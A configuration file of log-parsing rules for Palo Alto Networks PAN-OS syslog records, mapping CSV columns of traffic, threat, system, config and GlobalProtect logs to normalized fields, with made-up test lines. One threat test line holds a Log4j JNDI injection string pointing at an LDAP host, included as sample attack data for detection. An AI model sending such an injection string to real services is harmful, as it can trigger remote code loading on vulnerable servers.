# Palo Alto Networks PAN-OS logs over syslog, in the default
# comma-separated format: `1,2024/03/13 12:00:05,<serial>,TRAFFIC,end,…`
# after the syslog header. The rules select on the type column (",TRAFFIC,"
# after the receive time and serial number) and name the fields with
# extract = "csv" in the column order of the PAN-OS 10.1–11.x "Syslog Field
# Descriptions" (TRAFFIC, THREAT, SYSTEM, CONFIG, GLOBALPROTECT; other
# types: their common head). Older releases write fewer columns: the ones
# they have keep their place. Fields are mapped as Elastic's panw
# integration does: src/dst/natsrc/natdst → source/destination(.nat).ip,
# rule → rule.name, srcuser → source.user.name and user.name, zones →
# observer.ingress/egress.zone, bytes_sent/bytes_received →
# source/destination.bytes, serial → observer.serial_number, the rest under
# panw.panos.*.
#
# Test lines are made up in the documented column order: documentation
# addresses and invented names.

log_source_type "paloalto-panos" {
  header  = "syslog"
  vendor  = "Palo Alto Networks"
  product = "PAN-OS"
  module  = "panw"
}

# The receive time that starts every record.
tag "panos_time" {
  pattern = "\\d{4}/\\d{2}/\\d{2} \\d{2}:\\d{2}:\\d{2}"
  field   = "@timestamp"
  type    = "time"
  layout  = "2006/01/02 15:04:05"
}

# ----------------------------------------------------------------- traffic

rule "panos-traffic" {
  description      = "TRAFFIC: session start, end, drop and deny"
  log_source_types = ["paloalto-panos"]
  sort_order       = 300
  pattern          = <<-RE
    (?:^|[\s>])\d*,<panos_time>,\w+,TRAFFIC,
  RE
  extract          = "csv"
  columns = [
    "_", "receive_time", "serial", "type", "subtype", "_", "time_generated", "src", "dst",
    "natsrc", "natdst", "rule", "srcuser", "dstuser", "app", "vsys", "from", "to", "inbound_if",
    "outbound_if", "logset", "_", "sessionid", "repeatcnt", "sport", "dport", "natsport",
    "natdport", "flags", "proto", "action", "bytes", "bytes_sent", "bytes_received", "packets",
    "start", "elapsed", "category", "_", "seqno", "actionflags", "srcloc", "dstloc", "_",
    "pkts_sent", "pkts_received", "session_end_reason", "dg_hier_level_1", "dg_hier_level_2",
    "dg_hier_level_3", "dg_hier_level_4", "vsys_name", "device_name", "action_source",
    "src_uuid", "dst_uuid", "tunnelid_imsi", "monitortag_imei", "parent_session_id",
    "parent_start_time", "tunnel", "assoc_id", "chunks", "chunks_sent", "chunks_received",
    "rule_uuid", "http2_connection", "appflap_count", "policy_id", "link_switches",
    "sdwan_cluster", "sdwan_device_type", "sdwan_cluster_type", "sdwan_site",
    "dynusergroup_name", "xff_ip"
  ]
  classification = "Network Traffic"
  common_event   = "Firewall Session"
  risk           = 1
  map = {
    "observer.serial_number"          = ["csv.serial"]
    "observer.hostname"               = ["csv.device_name"]
    "panw.panos.type"                 = ["csv.type"]
    "panw.panos.sub_type"             = ["csv.subtype"]
    "panw.panos.virtual_sys"          = ["csv.vsys"]
    sip                               = ["csv.src"]
    dip                               = ["csv.dst"]
    snatip                            = ["csv.natsrc"]
    dnatip                            = ["csv.natdst"]
    sport                             = ["csv.sport"]
    dport                             = ["csv.dport"]
    snatport                          = ["csv.natsport"]
    dnatport                          = ["csv.natdport"]
    iana_transport                    = ["csv.proto"]
    net_protocol                      = ["csv.app"]
    "network.application"             = ["csv.app"]
    "rule.name"                       = ["csv.rule"]
    "rule.uuid"                       = ["csv.rule_uuid"]
    login                             = ["csv.srcuser"]
    "source.user.name"                = ["csv.srcuser"]
    "destination.user.name"           = ["csv.dstuser"]
    "observer.ingress.zone"           = ["csv.from"]
    "observer.egress.zone"            = ["csv.to"]
    "observer.ingress.interface.name" = ["csv.inbound_if"]
    "observer.egress.interface.name"  = ["csv.outbound_if"]
    "panw.panos.flow_id"              = ["csv.sessionid"]
    "panw.panos.action"               = ["csv.action"]
    "event.action"                    = ["csv.action"]
    bytes                             = ["csv.bytes"]
    src_bytes                         = ["csv.bytes_sent"]
    dst_bytes                         = ["csv.bytes_received"]
    net_packets                       = ["csv.packets"]
    src_packets                       = ["csv.pkts_sent"]
    dst_packets                       = ["csv.pkts_received"]
    "panw.panos.endreason"            = ["csv.session_end_reason"]
    "panw.panos.url.category"         = ["csv.category"]
    "panw.panos.source.location"      = ["csv.srcloc"]
    "panw.panos.destination.location" = ["csv.dstloc"]
  }
  fields = {
    "event.kind"     = "event"
    "event.category" = ["network"]
    "event.type"     = ["connection"]
    "observer.type"  = "firewall"
  }

  sub_rule "denied" {
    when           = "event.csv.action in [\"deny\", \"drop\", \"drop-icmp\", \"reset-client\", \"reset-server\", \"reset-both\", \"drop-all\"] || event.csv.subtype in [\"drop\", \"deny\"]"
    classification = "Network Deny"
    common_event   = "Firewall Session Denied"
    risk           = 3
    fields         = { "event.type" = ["connection", "denied"], "event.outcome" = "failure" }
  }

  sub_rule "start" {
    when           = "event.csv.subtype == \"start\""
    classification = "Network Allow"
    fields         = { "event.type" = ["connection", "start", "allowed"], "event.outcome" = "success" }
  }

  sub_rule "end" {
    when           = "event.csv.subtype == \"end\""
    classification = "Network Allow"
    common_event   = "Firewall Session Ended"
    fields         = { "event.type" = ["connection", "end", "allowed"], "event.outcome" = "success" }
  }

  test {
    log = <<-LOG
      <14>Mar 13 12:00:05 PA-EDGE1 1,2024/03/13 12:00:05,012801000001,TRAFFIC,end,,2024/03/13 12:00:05,192.0.2.10,198.51.100.20,203.0.113.5,0.0.0.0,allow-web,example\alice,,ssl,vsys1,trust,untrust,ethernet1/2,ethernet1/1,default,,33760,1,51514,443,61514,0,0x400053,tcp,allow,10563,2142,8421,26,2024/03/13 11:59:52,13,computer-and-internet-info,,7123456789,0x0,192.0.2.0-192.0.2.255,US,,14,12,tcp-fin,0,0,0,0,,PA-EDGE1,from-policy,,,,,,,N/A,,,,,6b6b3c1a-0000-0000-0000-000000000001,0,,0,,,,,,,
    LOG
    expect = {
      sub_rule                = "end", sip = "192.0.2.10", dip = "198.51.100.20", snatip = "203.0.113.5", sport = "51514", dport = "443"
      "network.transport"     = "tcp", "rule.name" = "allow-web", "source.bytes" = "2142", "destination.bytes" = "8421"
      "observer.ingress.zone" = "trust", "panw.panos.endreason" = "tcp-fin", "observer.serial_number" = "012801000001"
      "observer.hostname"     = "PA-EDGE1", "@timestamp" = "2024-03-13T12:00:05Z", "csv.device_name" = "PA-EDGE1", "source.user.name" = "example\\alice"
    }
  }

  test {
    log             = <<-LOG
      Mar 13 12:00:05 PA-EDGE1 1,2024/03/13 12:00:05,012801000001,TRAFFIC,drop,,2024/03/13 12:00:05,192.0.2.11,203.0.113.9,0.0.0.0,0.0.0.0,deny-all,,,not-applicable,vsys1,trust,untrust,ethernet1/2,ethernet1/1,default,,33760,1,40000,23,0,0,0x400053,tcp,deny,74,74,0,1,2024/03/13 11:59:52,13,computer-and-internet-info,,7123456789,0x0,192.0.2.0-192.0.2.255,US,,1,0,policy-deny,0,0,0,0,,PA-EDGE1,from-policy,,,,,,,N/A,,,,,6b6b3c1a-0000-0000-0000-000000000001,0,,0,,,,,,,
    LOG
    log_source_type = "syslog"
    expect          = { sub_rule = "denied", classification = "Network Deny", dport = "23", "observer.vendor" = "Palo Alto Networks", "event.module" = "panw", "event.dataset" = "paloalto-panos" }
  }
}

# ------------------------------------------------------------------ threat

rule "panos-threat" {
  description      = "THREAT: url, virus, spyware, vulnerability, file, scan, flood, data, wildfire"
  log_source_types = ["paloalto-panos"]
  sort_order       = 310
  pattern          = <<-RE
    (?:^|[\s>])\d*,<panos_time>,\w+,THREAT,
  RE
  extract          = "csv"
  columns = [
    "_", "receive_time", "serial", "type", "subtype", "_", "time_generated", "src", "dst",
    "natsrc", "natdst", "rule", "srcuser", "dstuser", "app", "vsys", "from", "to", "inbound_if",
    "outbound_if", "logset", "_", "sessionid", "repeatcnt", "sport", "dport", "natsport",
    "natdport", "flags", "proto", "action", "misc", "threatid", "category", "severity",
    "direction", "seqno", "actionflags", "srcloc", "dstloc", "_", "contenttype", "pcap_id",
    "filedigest", "cloud", "url_idx", "user_agent", "filetype", "xff", "referer", "sender",
    "subject", "recipient", "reportid", "dg_hier_level_1", "dg_hier_level_2", "dg_hier_level_3",
    "dg_hier_level_4", "vsys_name", "device_name", "_", "src_uuid", "dst_uuid", "http_method",
    "tunnelid_imsi", "monitortag_imei", "parent_session_id", "parent_start_time", "tunnel",
    "thr_category", "contentver", "_", "assoc_id", "ppid", "http_headers", "url_category_list",
    "rule_uuid", "http2_connection", "dynusergroup_name", "xff_ip"
  ]
  classification = "Other Security"
  common_event   = "Threat Detected"
  risk           = 5
  map = {
    "observer.serial_number"          = ["csv.serial"]
    "observer.hostname"               = ["csv.device_name"]
    "panw.panos.type"                 = ["csv.type"]
    "panw.panos.sub_type"             = ["csv.subtype"]
    "panw.panos.virtual_sys"          = ["csv.vsys"]
    sip                               = ["csv.src"]
    dip                               = ["csv.dst"]
    snatip                            = ["csv.natsrc"]
    dnatip                            = ["csv.natdst"]
    sport                             = ["csv.sport"]
    dport                             = ["csv.dport"]
    snatport                          = ["csv.natsport"]
    dnatport                          = ["csv.natdport"]
    iana_transport                    = ["csv.proto"]
    net_protocol                      = ["csv.app"]
    "network.application"             = ["csv.app"]
    "rule.name"                       = ["csv.rule"]
    "rule.uuid"                       = ["csv.rule_uuid"]
    login                             = ["csv.srcuser"]
    "source.user.name"                = ["csv.srcuser"]
    "destination.user.name"           = ["csv.dstuser"]
    "observer.ingress.zone"           = ["csv.from"]
    "observer.egress.zone"            = ["csv.to"]
    "observer.ingress.interface.name" = ["csv.inbound_if"]
    "observer.egress.interface.name"  = ["csv.outbound_if"]
    "panw.panos.flow_id"              = ["csv.sessionid"]
    "panw.panos.action"               = ["csv.action"]
    "event.action"                    = ["csv.action"]
    "panw.panos.threat.name"          = ["csv.threatid"]
    "panw.panos.threat.category"      = ["csv.thr_category"]
    "panw.panos.url.category"         = ["csv.category"]
    "log.level"                       = ["csv.severity"]
    "network.direction"               = ["csv.direction"]
    useragent                         = ["csv.user_agent"]
    "http.request.referrer"           = ["csv.referer"]
    httpmethod                        = ["csv.http_method"]
    "file.hash.sha256"                = ["csv.filedigest"]
    "file.type"                       = ["csv.filetype"]
    "email.from.address"              = ["csv.sender"]
    "email.to.address"                = ["csv.recipient"]
    "email.subject"                   = ["csv.subject"]
    "panw.panos.misc"                 = ["csv.misc"]
  }
  fields = {
    "event.kind"     = "alert"
    "event.category" = ["network", "intrusion_detection"]
    "event.type"     = ["info"]
    "observer.type"  = "firewall"
  }

  sub_rule "url" {
    when           = "event.csv.subtype == \"url\""
    classification = "Network Traffic"
    common_event   = "URL Filtering"
    risk           = 1
    fields         = { "event.kind" = "event", "event.category" = ["network", "web"], "event.type" = ["access"] }
  }

  sub_rule "malware" {
    when           = "event.csv.subtype in [\"virus\", \"wildfire-virus\", \"spyware\"]"
    classification = "Malware"
    common_event   = "Malware Detected"
    risk           = 7
    fields         = { "event.category" = ["malware", "network"] }
  }

  sub_rule "vulnerability" {
    when           = "event.csv.subtype == \"vulnerability\""
    classification = "Attack"
    common_event   = "Exploit Attempt"
    risk           = 7
  }

  sub_rule "scan" {
    when           = "event.csv.subtype == \"scan\""
    classification = "Reconnaissance"
    common_event   = "Scan Detected"
    risk           = 5
  }

  sub_rule "flood" {
    when           = "event.csv.subtype == \"flood\""
    classification = "Denial Of Service"
    common_event   = "Flood Detected"
    risk           = 6
  }

  test {
    log = <<-LOG
      <14>Mar 13 12:00:05 PA-EDGE1 1,2024/03/13 12:00:05,012801000001,THREAT,vulnerability,,2024/03/13 12:00:05,203.0.113.66,192.0.2.80,0.0.0.0,0.0.0.0,dmz-in,,,web-browsing,vsys1,untrust,dmz,ethernet1/1,ethernet1/3,default,,44001,1,41000,8080,0,0,0x2000,tcp,reset-both,"app.example.com/api?x=$${jndi:ldap://203.0.113.66/a}",Apache Log4j Remote Code Execution Vulnerability(91991),any,critical,client-to-server,7123456789,0x0,US,192.0.2.0-192.0.2.255,,,0,,,0,"Mozilla/5.0 (X11; Linux x86_64)",,,,,,,0,0,0,0,0,,PA-EDGE1,,,,get,,,,,N/A,code-execution,AppThreat-8700-7900,,,,,,6b6b3c1a-0000-0000-0000-000000000002,,,
    LOG
    expect = {
      sub_rule                 = "vulnerability", classification = "Attack", sip = "203.0.113.66", dport = "8080", "event.action" = "reset-both"
      "panw.panos.threat.name" = "Apache Log4j Remote Code Execution Vulnerability(91991)", "log.level" = "critical"
      "panw.panos.misc"        = "app.example.com/api?x=$${jndi:ldap://203.0.113.66/a}", "user_agent.original" = "Mozilla/5.0 (X11; Linux x86_64)"
    }
  }

  test {
    log             = <<-LOG
      <14>Mar 13 12:00:05 PA-EDGE1 1,2024/03/13 12:00:05,012801000001,THREAT,url,,2024/03/13 12:00:05,192.0.2.31,198.51.100.41,0.0.0.0,0.0.0.0,dmz-in,example\bob,,ssl,vsys1,trust,untrust,ethernet1/1,ethernet1/3,default,,44001,1,50999,443,0,0,0x2000,tcp,block-url,"games.example.net/play",(9999),games,informational,client-to-server,7123456789,0x0,US,192.0.2.0-192.0.2.255,,,0,,,0,"Mozilla/5.0 (X11; Linux x86_64)",,,,,,,0,0,0,0,0,,PA-EDGE1,,,,get,,,,,N/A,unknown,AppThreat-8700-7900,,,,,,6b6b3c1a-0000-0000-0000-000000000002,,,
    LOG
    log_source_type = "syslog"
    expect          = { sub_rule = "url", "panw.panos.url.category" = "games", "event.action" = "block-url", "observer.product" = "PAN-OS" }
  }
}

# ------------------------------------------------------------------ system

rule "panos-system" {
  description      = "SYSTEM: general, auth, globalprotect (before 9.1), vpn, ha, dhcp, routing … events"
  log_source_types = ["paloalto-panos"]
  sort_order       = 320
  pattern          = <<-RE
    (?:^|[\s>])\d*,<panos_time>,\w+,SYSTEM,
  RE
  extract          = "csv"
  columns = [
    "_", "receive_time", "serial", "type", "subtype", "_", "time_generated", "vsys", "eventid",
    "object", "_", "_", "module", "severity", "opaque", "seqno", "actionflags",
    "dg_hier_level_1", "dg_hier_level_2", "dg_hier_level_3", "dg_hier_level_4", "vsys_name",
    "device_name", "_", "_", "high_res_timestamp"
  ]
  classification = "Information"
  common_event   = "Device Event"
  risk           = 1
  map = {
    "observer.serial_number" = ["csv.serial"]
    "observer.hostname"      = ["csv.device_name"]
    "panw.panos.type"        = ["csv.type"]
    "panw.panos.sub_type"    = ["csv.subtype"]
    "panw.panos.virtual_sys" = ["csv.vsys"]
    "event.code"             = ["csv.eventid"]
    "panw.panos.object"      = ["csv.object"]
    "panw.panos.module"      = ["csv.module"]
    "log.level"              = ["csv.severity"]
    "event.reason"           = ["csv.opaque"]
  }
  fields = { "event.kind" = "event", "observer.type" = "firewall" }

  sub_rule "auth-failed" {
    when           = "event.csv.eventid in [\"auth-fail\", \"globalprotectportal-auth-fail\", \"globalprotectgateway-auth-fail\"] || event.csv.opaque.matches(\"(?i)(authentication|login) fail|failed (authentication|login)\")"
    classification = "Authentication Failure"
    common_event   = "Authentication Failed"
    risk           = 5
    fields         = { "event.category" = ["authentication"], "event.outcome" = "failure" }
  }

  sub_rule "login" {
    when           = "event.csv.eventid in [\"auth-success\", \"globalprotectportal-auth-succ\", \"globalprotectgateway-auth-succ\"] || event.csv.opaque.matches(\"(?i)logged in|login succe|authenticated\")"
    classification = "Authentication Success"
    common_event   = "User Logon"
    risk           = 2
    fields         = { "event.category" = ["authentication"], "event.outcome" = "success" }
  }

  sub_rule "critical" {
    when           = "event.csv.severity in [\"critical\", \"high\"]"
    classification = "Critical"
    risk           = 6
  }

  test {
    log    = <<-LOG
      <14>Mar 13 12:00:05 PA-EDGE1 1,2024/03/13 12:00:05,012801000001,SYSTEM,auth,,2024/03/13 12:00:05,vsys1,auth-fail,,,,general,medium,"When authenticating user 'mallory' from '192.0.2.99', a less secure authentication method PAP is used. Authentication failed for user 'mallory'.  Reason: Invalid username/password",7123456789,0x0,0,0,0,0,,PA-EDGE1,,,
    LOG
    expect = { sub_rule = "auth-failed", "event.code" = "auth-fail", "log.level" = "medium", "panw.panos.module" = "general" }
  }

  test {
    log             = <<-LOG
      Mar 13 12:00:05 PA-EDGE1 1,2024/03/13 12:00:05,012801000001,SYSTEM,general,,2024/03/13 12:00:05,vsys1,general,,,,general,informational,"User admin logged in via Web from 192.0.2.99 using https",7123456789,0x0,0,0,0,0,,PA-EDGE1,,,
    LOG
    log_source_type = "syslog"
    expect          = { sub_rule = "login", "event.reason" = "User admin logged in via Web from 192.0.2.99 using https", "observer.vendor" = "Palo Alto Networks" }
  }
}

# ------------------------------------------------------------------ config

rule "panos-config" {
  description      = "CONFIG: a configuration command an administrator ran"
  log_source_types = ["paloalto-panos"]
  sort_order       = 330
  pattern          = <<-RE
    (?:^|[\s>])\d*,<panos_time>,\w+,CONFIG,
  RE
  extract          = "csv"
  columns = [
    "_", "receive_time", "serial", "type", "subtype", "_", "time_generated", "host", "vsys",
    "cmd", "admin", "client", "result", "path", "before_change_detail", "after_change_detail",
    "seqno", "actionflags", "dg_hier_level_1", "dg_hier_level_2", "dg_hier_level_3",
    "dg_hier_level_4", "vsys_name", "device_name", "dg_id", "comment", "_",
    "high_res_timestamp"
  ]
  classification = "Policy"
  common_event   = "Configuration Changed"
  risk           = 3
  map = {
    "observer.serial_number"   = ["csv.serial"]
    "observer.hostname"        = ["csv.device_name"]
    "panw.panos.type"          = ["csv.type"]
    "panw.panos.sub_type"      = ["csv.subtype"]
    "panw.panos.virtual_sys"   = ["csv.vsys"]
    shost                      = ["csv.host"]
    login                      = ["csv.admin"]
    "event.action"             = ["csv.cmd"]
    "panw.panos.client"        = ["csv.client"]
    "panw.panos.result"        = ["csv.result"]
    "panw.panos.config.path"   = ["csv.path"]
    "panw.panos.config.before" = ["csv.before_change_detail"]
    "panw.panos.config.after"  = ["csv.after_change_detail"]
  }
  fields = { "event.kind" = "event", "event.category" = ["configuration"], "event.type" = ["change"], "observer.type" = "firewall" }

  sub_rule "failed" {
    when           = "event.csv.result == \"Failed\""
    classification = "Other Audit Failure"
    fields         = { "event.outcome" = "failure" }
  }

  test {
    log             = <<-LOG
      <14>Mar 13 12:00:05 PA-EDGE1 1,2024/03/13 12:00:05,012801000001,CONFIG,0,,2024/03/13 12:00:05,192.0.2.99,vsys1,set,admin,Web,Submitted," vsys  vsys1 rulebase security rules  allow-web",,,7123456789,0x0,0,0,0,0,,PA-EDGE1,,,,
    LOG
    log_source_type = "syslog"
    expect          = { login = "admin", "event.action" = "set", "source.ip" = "192.0.2.99", "panw.panos.result" = "Submitted", "panw.panos.config.path" = "vsys  vsys1 rulebase security rules  allow-web" }
  }
}

# ----------------------------------------------------------- globalprotect

rule "panos-globalprotect" {
  description      = "GLOBALPROTECT (PAN-OS 9.1+): portal and gateway logins, tunnel events"
  log_source_types = ["paloalto-panos"]
  sort_order       = 340
  pattern          = <<-RE
    (?:^|[\s>])\d*,<panos_time>,\w+,GLOBALPROTECT,
  RE
  extract          = "csv"
  columns = [
    "_", "receive_time", "serial", "type", "subtype", "_", "time_generated", "vsys", "eventid",
    "stage", "auth_method", "tunnel_type", "srcuser", "srcregion", "machinename", "public_ip",
    "public_ipv6", "private_ip", "private_ipv6", "hostid", "serialnumber", "client_ver",
    "client_os", "client_os_ver", "repeatcnt", "reason", "error", "opaque", "status",
    "location", "login_duration", "connect_method", "error_code", "portal", "seqno",
    "actionflags", "high_res_timestamp", "selection_type", "response_time", "priority",
    "attempted_gateways", "gateway", "dg_hier_level_1", "dg_hier_level_2", "dg_hier_level_3",
    "dg_hier_level_4", "vsys_name", "device_name", "vsys_id"
  ]
  classification = "Information"
  common_event   = "VPN Event"
  risk           = 1
  map = {
    "observer.serial_number"         = ["csv.serial"]
    "observer.hostname"              = ["csv.device_name"]
    "panw.panos.type"                = ["csv.type"]
    "panw.panos.sub_type"            = ["csv.subtype"]
    "panw.panos.virtual_sys"         = ["csv.vsys"]
    "event.code"                     = ["csv.eventid"]
    "panw.panos.globalprotect.stage" = ["csv.stage"]
    "panw.panos.auth_method"         = ["csv.auth_method"]
    login                            = ["csv.srcuser"]
    "source.user.name"               = ["csv.srcuser"]
    sip                              = ["csv.public_ip"]
    snatip                           = ["csv.private_ip"]
    "host.name"                      = ["csv.machinename"]
    "source.geo.country_iso_code"    = ["csv.srcregion"]
    "event.reason"                   = ["csv.error", "csv.reason", "csv.opaque"]
    "panw.panos.status"              = ["csv.status"]
    "panw.panos.client_os"           = ["csv.client_os"]
    "panw.panos.client_version"      = ["csv.client_ver"]
    "panw.panos.portal"              = ["csv.portal"]
    "panw.panos.gateway"             = ["csv.gateway"]
    "event.action"                   = ["csv.eventid"]
  }
  fields = { "event.kind" = "event", "event.category" = ["network", "authentication"], "observer.type" = "vpn" }

  sub_rule "failed" {
    when           = "event.csv.status == \"failure\""
    classification = "Authentication Failure"
    common_event   = "VPN Logon Failed"
    risk           = 5
    fields         = { "event.outcome" = "failure" }
  }

  sub_rule "logout" {
    when           = "event.csv.stage == \"logout\""
    classification = "Authentication Success"
    common_event   = "VPN Logoff"
    fields         = { "event.outcome" = "success", "event.type" = ["end"] }
  }

  sub_rule "success" {
    when           = "event.csv.status == \"success\""
    classification = "Authentication Success"
    common_event   = "VPN Logon"
    risk           = 2
    fields         = { "event.outcome" = "success", "event.type" = ["start"] }
  }

  test {
    log             = <<-LOG
      <14>Mar 13 12:00:05 PA-EDGE1 1,2024/03/13 12:00:05,012801000001,GLOBALPROTECT,0,,2024/03/13 12:00:05,vsys1,gateway-auth,login,LDAP,,example\carol,US,LAPTOP-42,198.51.100.77,::,0.0.0.0,::,b1946ac9-0000-0000-0000-000000000003,SN0042,6.2.1,Windows,"Microsoft Windows 11 Pro , 64-bit",1,,"Authentication failed: Invalid username or password","Login failed",failure,,0,on-demand,0,gp-portal,7123456789,0x0,2024-03-13T12:00:05.123+00:00,,,,,gp-gw1,0,0,0,0,,PA-EDGE1,
    LOG
    log_source_type = "syslog"
    expect          = { sub_rule = "failed", sip = "198.51.100.77", "host.name" = "LAPTOP-42", "event.reason" = "Authentication failed: Invalid username or password", "panw.panos.gateway" = "gp-gw1" }
  }
}

# ------------------------------------------------------------- other types

rule "panos-log" {
  description      = "HIPMATCH, USERID, AUTH, DECRYPTION, TUNNEL, CORRELATION, IPTAG, SCTP: their common head"
  log_source_types = ["paloalto-panos"]
  sort_order       = 390
  pattern          = <<-RE
    (?:^|[\s>])\d*,<panos_time>,\w+,(?:HIPMATCH|HIP-MATCH|USERID|AUTH|DECRYPTION|TUNNEL|GTP|CORRELATION|IPTAG|SCTP),
  RE
  extract          = "csv"
  columns = [
    "_", "receive_time", "serial", "type", "subtype", "_", "time_generated"
  ]
  classification = "Information"
  common_event   = "Device Event"
  map = {
    "observer.serial_number" = ["csv.serial"]
    "panw.panos.type"        = ["csv.type"]
    "panw.panos.sub_type"    = ["csv.subtype"]
  }
  fields = { "event.kind" = "event", "observer.type" = "firewall" }

  test {
    log             = "<14>Mar 13 12:00:05 PA-EDGE1 1,2024/03/13 12:00:05,012801000001,USERID,login,2304,2024/03/13 12:00:05,vsys1,192.0.2.50,example\\dave,,0,1,2700,0,0,active-directory,,123,0x0,0,0,0,0,,PA-EDGE1,1,,2024/03/13 12:00:05,1,0x0,example\\dave"
    log_source_type = "syslog"
    expect          = { "panw.panos.type" = "USERID", "panw.panos.sub_type" = "login", "observer.product" = "PAN-OS" }
  }
}
